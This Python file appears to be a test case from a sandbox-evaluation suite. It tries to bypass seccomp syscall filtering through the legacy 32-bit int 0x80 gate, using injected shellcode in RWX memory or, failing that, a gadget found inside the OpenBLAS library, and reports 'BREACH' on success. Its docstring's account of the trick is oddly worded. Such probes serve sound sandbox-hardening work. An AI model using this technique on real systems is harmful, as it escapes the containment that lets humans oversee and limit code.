"""Calls the kernel by the old gate for 32-bit programs, where numbers mean other calls: 20 is getpid.

Idea: chromium's and Docker's filters check the architecture first. Where new code may not run, it looks for the two
bytes of the gate in the code that is there, and enters it with two floating-point arguments, which count is the number
of the call: 2, fork.
"""

# row: architecture
# ns: forbidden_syscall
# control: without seccomp
import ctypes
import glob
import mmap
import struct

import numpy as np

GETPID = bytes.fromhex("b814000000 cd80 c3")  # mov eax, 20; int 0x80; ret
GATE = b"\xcd\x80"


def f(told):
    try:
        page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
    except OSError:
        return f"BREACH: {found_gate()(0.0, 0.0)}"
    page.write(GETPID)
    return f"BREACH: {ctypes.CFUNCTYPE(ctypes.c_int)(address_of(page))()}"


def address_of(page):
    return ctypes.addressof(ctypes.c_char.from_buffer(page))


def found_gate():
    library = ctypes.CDLL(glob.glob(np.__path__[0] + ".libs/*openblas*")[0])
    about = (ctypes.c_void_p * 4)()
    ctypes.CDLL(None).dladdr(library.scipy_cblas_ddot64_, about)
    place, size = code_at(about[1])
    at = ctypes.string_at(place, size).index(GATE)
    return ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_double, ctypes.c_double)(place + at)


def code_at(base):
    """Where the code of a library is, by its program headers: elf(5)."""
    start, *_, size, count = struct.unpack_from("<Q 14x HH", ctypes.string_at(base, 64), 32)
    for number in range(count):
        kind, flags, _, place, _, length = struct.unpack("<IIQQQQ", ctypes.string_at(base + start + number * size, 40))
        if kind == 1 and flags & 1:
            return base + place, length
    raise LookupError("no code")
